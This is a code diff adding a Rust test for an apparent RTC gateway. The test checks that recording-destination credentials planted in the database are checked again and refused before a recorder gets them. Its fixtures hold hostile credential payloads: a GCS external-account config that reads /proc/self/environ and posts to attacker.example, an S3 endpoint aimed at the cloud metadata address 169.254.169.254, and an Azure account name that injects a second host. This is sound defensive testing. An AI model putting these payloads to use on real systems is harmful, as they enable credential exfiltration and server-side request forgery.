@@ -459,3 +459,58 @@ fn genuine_credentials_are_still_taken_and_the_checked_form_is_what_the_recorder
     assert_eq!(r.status, 201, "{}", r.json);
     assert_eq!(starts(&t)[1]["file_outputs"][0]["s3"]["endpoint"], "https://minio.example.com:9000");
 }
+
+/// Fixed bytes for sealing a row by hand (as an older release would have stored it).
+struct FixedEntropy;
+
+impl rtcgate::runtime::Entropy for FixedEntropy {
+    fn fill(&self, buf: &mut [u8]) {
+        buf.fill(7);
+    }
+}
+
+/// A destination stored before its credentials were checked (or written to the database by
+/// other means) is checked again when a recording would use it: nothing reaches the vendor.
+#[test]
+fn stored_credentials_are_checked_again_before_a_recorder_gets_them() {
+    let t = TestApp::new(&[LIVEKIT, SHARED, ENCRYPTION]);
+    let (prj, key) = t.project_and_key();
+    livekit(&t);
+    assert_eq!(t.call("POST", "/v1/rtc/room/create", Some(json!({"name": "r"})), Some(&key)).status, 201);
+    let sealing = rtcgate::sealed::EncryptionKey::from_setting(Some(KEY));
+    let sealing = sealing.require("tests").unwrap();
+    for (uri, stored) in [
+        (
+            "gs://acme/old/",
+            json!({"kind": "gs", "credentials": json!({"type": "external_account", "token_url": "https://attacker.example/",
+                                                       "credential_source": {"file": "/proc/self/environ"}}).to_string()}),
+        ),
+        (
+            "s3://acme/old/",
+            json!({"kind": "s3", "access_key": "a", "secret": "s", "region": null, "endpoint": "https://169.254.169.254"}),
+        ),
+        ("azure://box/old/", json!({"kind": "azure", "account_name": "evil.example/x", "account_key": "k"})),
+    ] {
+        let created = match uri.split_once("://").unwrap().0 {
+            "gs" => json!({"uri": uri, "credentials": {"credentials": service_account()}}),
+            "s3" => json!({"uri": uri, "credentials": {"access_key": "a", "secret": "s"}}),
+            _ => json!({"uri": uri, "credentials": {"account_name": "acme", "account_key": "k"}}),
+        };
+        let r = t.call("POST", "/v1/rtc/recording/destination/create", Some(created), Some(&key));
+        assert_eq!(r.status, 201, "{}", r.json);
+        let id = r.json["destination"].as_str().unwrap();
+        let sealed = sealing.seal(&FixedEntropy, &prj, stored.to_string().as_bytes());
+        t.native
+            .db
+            .exec_raw(&format!("UPDATE recording_destinations SET sealed_credentials = '{sealed}' WHERE id = '{id}'"));
+        let r = start(&t, &key, &format!("{uri}x.mp4"));
+        assert_eq!(
+            (r.status, r.code(), r.json["error"]["destination"].as_str()),
+            (422, "DESTINATION_UNSUPPORTED", Some(id)),
+            "{uri}: {}",
+            r.json
+        );
+        assert!(!r.json.to_string().contains("attacker") && !r.json.to_string().contains("169.254"), "{}", r.json);
+    }
+    assert!(starts(&t).is_empty(), "a recorder got refused credentials");
+}
